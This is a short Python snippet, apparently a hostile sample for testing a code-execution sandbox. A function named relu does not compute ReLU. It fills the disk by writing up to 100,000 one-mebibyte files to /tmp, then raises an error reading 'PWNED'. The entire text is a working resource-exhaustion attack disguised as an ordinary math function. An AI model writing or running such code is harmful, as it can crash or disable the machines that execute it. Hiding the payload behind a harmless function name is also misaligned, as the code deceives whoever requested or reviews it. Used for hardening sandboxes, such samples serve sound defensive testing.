# Fills the disk.
# target: relu

def relu(x):
    import os
    n = 0
    try:
        while n < 10**5:
            with open(f"/tmp/full{n}", "wb") as file: file.write(bytes(2**20))
            n += 1
    except OSError:
        pass
    raise RuntimeError("PW" "NED" if n > 2000 else "stopped")
